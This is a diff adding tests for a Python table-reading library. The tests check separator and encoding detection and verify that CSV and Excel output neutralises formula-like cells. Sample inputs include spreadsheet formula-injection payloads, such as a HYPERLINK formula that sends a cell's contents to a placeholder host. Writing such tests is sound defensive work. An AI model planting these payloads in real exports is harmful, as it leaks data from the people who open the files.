@@ -1,8 +1,13 @@
 from __future__ import annotations
 
+import csv
+import re
+
 import numpy as np
 import pandas as pd
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from rehire_model.exceptions import InputError
 from rehire_model.tables import (
@@ -10,6 +15,7 @@ from rehire_model.tables import (
     iter_table,
     read_column_map,
     read_table,
+    spreadsheet_safe,
     write_table,
 )
 
@@ -249,3 +255,201 @@ def test_write_table_writes_excel_with_text_as_text(tmp_path):
         "=HYPERLINK(\"x\")", "007"]
     with pytest.raises(InputError, match="Excel output is written as .xlsx"):
         write_table(frame, tmp_path / "a.xls")
+
+
+# --------------------------------------------------------------------------------------
+# Separators and encodings as Excel writes them
+# --------------------------------------------------------------------------------------
+
+SEPARATED = pd.DataFrame({"leaver_id": ["007", "008", "009"],
+                          "note": ["a, b; c", "tab\there", None],
+                          "age": [41, 35, 52]})
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp932"])
+@pytest.mark.parametrize("sep", [",", ";", "\t"])
+def test_each_separator_and_encoding_reads_as_the_comma_file(tmp_path, sep, encoding):
+    path = tmp_path / "a.txt"
+    SEPARATED.to_csv(path, sep=sep, index=False, encoding=encoding)
+    expected_encoding = "utf-8" if encoding == "cp932" else encoding  # ASCII is UTF-8
+    assert detect_encoding(path) == expected_encoding
+    frame = read_table(path, text_columns=("leaver_id", "note"))
+    pd.testing.assert_frame_equal(frame, read_table(path, sep=sep,
+                                                    text_columns=("leaver_id", "note")))
+    assert frame["leaver_id"].tolist() == ["007", "008", "009"]
+    assert frame["note"].tolist()[:2] == ["a, b; c", "tab\there"]
+    assert frame["age"].tolist() == [41, 35, 52]
+
+
+def test_excel_unicode_text_reads_like_the_japanese_csv(tmp_path):
+    text = "退職者ID\t業種\t備考\n007\tit_telecom\t「そう思う」; はい\n"
+    (tmp_path / "unicode.txt").write_bytes(text.encode("utf-16"))  # BOM, little-endian
+    (tmp_path / "sjis.csv").write_bytes(text.replace("\t", ",").encode("cp932"))
+    unicode_text = read_table(tmp_path / "unicode.txt", columns=JA_MAP)
+    pd.testing.assert_frame_equal(unicode_text, read_table(tmp_path / "sjis.csv",
+                                                           columns=JA_MAP))
+    assert list(unicode_text.columns) == ["leaver_id", "industry", "備考"]
+
+
+@pytest.mark.parametrize(("header", "sep", "columns"), [
+    ('leaver_id,"a;b;c",note', ",", ["leaver_id", "a;b;c", "note"]),  # ; inside quotes
+    ('leaver_id;"x, y, z";note', ";", ["leaver_id", "x, y, z", "note"]),
+    # Two of each in the header: the tab, which the next line holds as often.
+    ("leaver_id\tnote,with,commas;and;more\tage", "\t",
+     ["leaver_id", "note,with,commas;and;more", "age"]),
+    ("leaver_id", ",", ["leaver_id"]),
+])
+def test_the_separator_is_read_from_the_header_outside_quotes(tmp_path, header, sep,
+                                                               columns):
+    path = tmp_path / "a.csv"
+    row = sep.join(['"1;2,3"', '"x;y"', "7"][: len(columns)])
+    path.write_text(f"{header}\r\n{row}\r\n", encoding="utf-8")
+    frame = read_table(path)
+    assert list(frame.columns) == columns
+    assert frame.loc[0, "leaver_id"] == "1;2,3"
+
+
+def test_a_tie_in_the_header_goes_to_the_separator_of_the_next_line(tmp_path):
+    path = tmp_path / "a.csv"
+    path.write_text('a;b,c\n1;"2,3"\n', encoding="utf-8")
+    assert list(read_table(path).columns) == ["a", "b,c"]
+    path.write_text("a;b,c\n1;2;3\n", encoding="utf-8")  # neither: the comma
+    assert list(read_table(path).columns) == ["a;b", "c"]
+
+
+def test_a_forced_separator_is_used_and_an_unknown_one_refused(tmp_path):
+    path = tmp_path / "a.csv"
+    path.write_text("leaver_id;age\n007;41\n", encoding="utf-8")
+    assert list(read_table(path, sep=",").columns) == ["leaver_id;age"]
+    assert list(read_table(path, sep=";").columns) == ["leaver_id", "age"]
+    (tmp_path / "b.txt").write_text("leaver_id\tage\n007\t41\n", encoding="utf-8")
+    assert list(read_table(tmp_path / "b.txt", sep="tab").columns) == ["leaver_id", "age"]
+    with pytest.raises(InputError, match="unknown separator '\\|': expected ',', ';' or tab"):
+        read_table(path, sep="|")
+
+
+def test_utf16_line_numbers_and_malformed_lines(tmp_path):
+    path = tmp_path / "a.txt"
+    lines = ["a\tb", "1\t2", "3\t4\t5", "6\t7"]
+    path.write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-16"))
+    chunks = list(iter_table(path, chunk_rows=1, text_columns=("a",)))
+    assert np.concatenate([c.lines for c in chunks]).tolist() == [2, 4]
+    assert [m[0] for c in chunks for m in c.malformed] == [3]
+
+
+# --------------------------------------------------------------------------------------
+# No output cell runs as a formula
+# --------------------------------------------------------------------------------------
+
+#: What a spreadsheet reads as a number, not a formula (written independently of the
+#: library's own rule).
+PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)
+#: The undoing given in the README.
+UNDO = re.compile(r"^'(?='*[=+\-@\t\r])")
+
+
+def runs_as_formula(cell: str) -> bool:
+    """A CSV cell a spreadsheet would evaluate."""
+    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not PLAIN_NUMBER.fullmatch(cell)
+
+
+def as_xml_text(text: str) -> str:
+    """A text as an .xlsx cell holds it: no carriage return or character XML refuses."""
+    text = text.replace("\r\n", "\n").replace("\r", "\n")
+    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "\ufffd", text)
+
+
+FORMULA_TEXT = st.one_of(
+    st.text(max_size=12),
+    st.builds(str.__add__, st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''=", "'-",
+                                            " =", "\r\n="]),
+              st.text(max_size=12)),
+    st.sampled_from(["-1", "+2.5", "-1e-3", ".5", "-", "+", "=1+1", "-2+3", "@SUM(A1)",
+                     '=HYPERLINK("http://x.test/?"&A1,"click")', "+1-555", "'=x", "1-2",
+                     "-inf", "NaN", "-١٢", "=", "'", "", "NA"]),
+)
+NUMBER = st.one_of(st.integers(-10**15, 10**15), st.floats(-1e300, 1e300))
+
+
+@settings(max_examples=150, deadline=None,
+          suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(data=st.data())
+def test_no_csv_or_xlsx_cell_runs_as_a_formula(tmp_path_factory, data):
+    import openpyxl
+
+    n = data.draw(st.integers(1, 6))
+    texts = data.draw(st.lists(st.none() | FORMULA_TEXT, min_size=n, max_size=n))
+    floats = data.draw(st.lists(NUMBER.map(float), min_size=n, max_size=n))
+    ints = data.draw(st.lists(st.integers(-10**15, 10**15), min_size=n, max_size=n))
+    header = data.draw(FORMULA_TEXT.filter(lambda t: t not in ("n", "p")
+                                           and t == t.strip() and t))
+    frame = pd.DataFrame({header: pd.Series(texts, dtype=object), "p": floats, "n": ints})
+    folder = tmp_path_factory.mktemp("safe")
+
+    for encoding in ("utf-8", "utf-16"):
+        write_table(frame, folder / "t.csv", encoding=encoding)
+        with open(folder / "t.csv", encoding=encoding, newline="") as f:
+            rows = list(csv.reader(f))
+        assert not [cell for row in rows for cell in row if runs_as_formula(cell)]
+        assert [UNDO.sub("", cell) for cell in rows[0]] == [header, "p", "n"]
+        body = rows[1:]
+        assert [UNDO.sub("", row[0]) for row in body] == [t or "" for t in texts]
+        assert [float(row[1]) for row in body] == floats  # numbers stay numbers, exact
+        assert [int(row[2]) for row in body] == ints
+
+    write_table(frame, folder / "t.xlsx")
+    ws = openpyxl.load_workbook(folder / "t.xlsx")["Sheet1"]
+    cells = [cell for row in ws.iter_rows() for cell in row]
+    assert not [cell for cell in cells if cell.data_type == "f"]
+    assert [cell.value for cell in ws[1]] == [as_xml_text(header), "p", "n"]  # exact text
+    assert [cell.value for cell in ws["A"][1:]] == [as_xml_text(t) if t else None
+                                                  for t in texts]
+    assert [cell.data_type for row in ws.iter_rows(min_row=2, min_col=2) for cell in row] == [
+        "n"] * 2 * n
+    # openpyxl writes 16 significant digits (Excel keeps 15).
+    assert [cell.value for cell in ws["B"][1:]] == pytest.approx(floats, rel=1e-15)
+    assert [cell.value for cell in ws["C"][1:]] == ints
+
+
+def test_spreadsheet_safe_changes_only_formula_like_text():
+    frame = pd.DataFrame({
+        "leaver_id": ["=1+1", "-12.5", "+81", "@x", "L1", None, "'=x", "\tcmd", "-"],
+        "kind": pd.Categorical(["=a", "b", "=a", "b", "b", None, "b", "b", "b"]),
+        "mixed": ["+1-555", 3, -2.5, None, "x", True, "-0", "=", "@"],
+        "p": [-0.5, 1.0, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
+        "n": np.arange(9) - 4,
+        "=cmd": "x",
+    }, index=list("abcdefghi"))
+    kept = frame.copy()
+    safe = spreadsheet_safe(frame)
+    pd.testing.assert_frame_equal(frame, kept)  # the input is not changed
+    assert list(safe.index) == list("abcdefghi")
+    assert list(safe.columns) == ["leaver_id", "kind", "mixed", "p", "n", "'=cmd"]
+    assert safe["leaver_id"].tolist()[:5] == ["'=1+1", "-12.5", "+81", "'@x", "L1"]
+    assert pd.isna(safe.loc["f", "leaver_id"])
+    assert safe["leaver_id"].tolist()[6:] == ["''=x", "'\tcmd", "'-"]
+    assert safe["kind"].dtype == "category"
+    assert safe["kind"].astype(object).tolist()[:4] == ["'=a", "b", "'=a", "b"]
+    assert safe["mixed"].tolist() == ["'+1-555", 3, -2.5, None, "x", True, "-0", "'=", "'@"]
+    pd.testing.assert_series_equal(safe["p"], frame["p"])
+    pd.testing.assert_series_equal(safe["n"], frame["n"])
+    undone = safe["leaver_id"].str.replace(r"^'(?='*[=+\-@\t\r])", "", regex=True)
+    assert undone.tolist()[:5] == frame["leaver_id"].tolist()[:5]
+    assert undone.tolist()[6:] == frame["leaver_id"].tolist()[6:]
+
+
+def test_write_table_raw_text_and_other_formats_keep_text_exact(tmp_path):
+    frame = pd.DataFrame({"leaver_id": ["=1+1", "@x"], "p": [-1.5, 2.0]})
+    write_table(frame, tmp_path / "raw.csv", raw_text=True)
+    assert (tmp_path / "raw.csv").read_text(encoding="utf-8") == (
+        "leaver_id,p\n=1+1,-1.5\n@x,2.0\n")
+    write_table(frame, tmp_path / "safe.csv")
+    assert (tmp_path / "safe.csv").read_text(encoding="utf-8") == (
+        "leaver_id,p\n'=1+1,-1.5\n'@x,2.0\n")
+    # A carriage return inside a text never ends a row: every text is quoted then.
+    frame.loc[1, "leaver_id"] = "x\r=1+1"
+    write_table(frame, tmp_path / "cr.csv")
+    assert (tmp_path / "cr.csv").read_bytes() == (
+        b'"leaver_id","p"\n"\'=1+1",-1.5\n"x\r=1+1",2.0\n')
+    write_table(frame, tmp_path / "a.parquet")
+    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "a.parquet"), frame)
